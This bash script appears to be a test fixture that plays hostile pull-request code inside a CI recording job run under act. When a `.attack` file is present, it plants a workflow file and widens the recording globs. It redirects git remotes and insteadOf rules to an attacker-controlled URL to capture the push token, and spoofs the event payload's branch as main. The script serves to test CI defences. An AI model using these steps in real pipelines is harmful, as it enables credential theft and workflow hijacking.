#!/usr/bin/env bash
# The project's "integration tests" in the act tests (tests/it/act/): the PR's code that a
# recording job runs. In record mode it writes one new recording per setup and suite, updates an
# existing one, and changes a non-recording file (which must never leave the job).
#
# When the PR's tree has a file `.attack`, it also does what hostile PR code can do to the steps
# after it (GITHUB-FACTS 13): `.attack` names the attacks (one word a line) and, on its first line,
# the URL of a server the PR controls.
set -euo pipefail

setup="" suite=""
while [[ $# -gt 0 ]]; do
  case "$1" in
    --setup) setup="$2"; shift 2 ;;
    --suite) suite="$2"; shift 2 ;;
    *) shift ;;
  esac
done

mkdir -p tests/integration/recordings tests/integration/agents/recordings
printf '{"setup": "%s", "suite": "%s", "recorded": true}\n' "$setup" "$suite" \
  >"tests/integration/recordings/$setup-$suite.json"
printf '{"re-recorded by": "%s-%s"}\n' "$setup" "$suite" \
  >"tests/integration/agents/recordings/$setup-$suite.json"
if [[ "$setup-$suite" == ollama-base ]]; then
  printf '{"a": 2}\n' >tests/integration/recordings/a.json
fi
echo "# changed by the tests" >>src/app.py

[[ -f .attack ]] || exit 0

# `git config --global`, retried: act gives every job of a run one $HOME, so matrix jobs running
# at the same time contend for ~/.gitconfig.lock (GitHub gives each job a machine of its own).
global() {
  local _
  for _ in $(seq 50); do
    git config --global "$@" 2>/dev/null && return 0
    sleep 0.1
  done
  git config --global "$@"
}

evil="$(head -n 1 .attack)"
attacks="$(tail -n +2 .attack)"
for attack in $attacks; do
  case "$attack" in
    config)
      # The work tree's config widens the recording globs to code and workflows.
      printf 'recordings = ["src/", ".github/", "tests/"]\n' >rerecord.toml
      mkdir -p .github/workflows
      printf 'recordings = ["src/", ".github/"]\n' >.github/rerecord.toml
      echo "on: push # planted" >.github/workflows/planted.yml
      # Where git would send the token, in the repository's and the user's git config.
      git remote set-url origin "$evil/upstream/project.git"
      git config remote.origin.pushurl "$evil/upstream/project.git"
      git config "url.$evil/.insteadOf" "$GITHUB_SERVER_URL/"
      global "url.$evil/.insteadOf" "$GITHUB_SERVER_URL/"
      global "url.$evil/.pushInsteadOf" "$GITHUB_SERVER_URL/"
      printf '[remote "origin"]\n\turl = %s/upstream/project.git\n' "$evil" >"$HOME/.evil-include"
      git config include.path "$HOME/.evil-include"
      git config user.name Mallory
      git config user.email mallory@example.invalid
      global user.name Mallory
      global user.email mallory@example.invalid
      ;;
    payload)
      # The event payload of the later steps now says the PR's branch is main.
      jq '.pull_request.head.ref = "main"' "$GITHUB_EVENT_PATH" >"$RUNNER_TEMP/event.json"
      cat "$RUNNER_TEMP/event.json" >"$GITHUB_EVENT_PATH"
      ;;
  esac
done
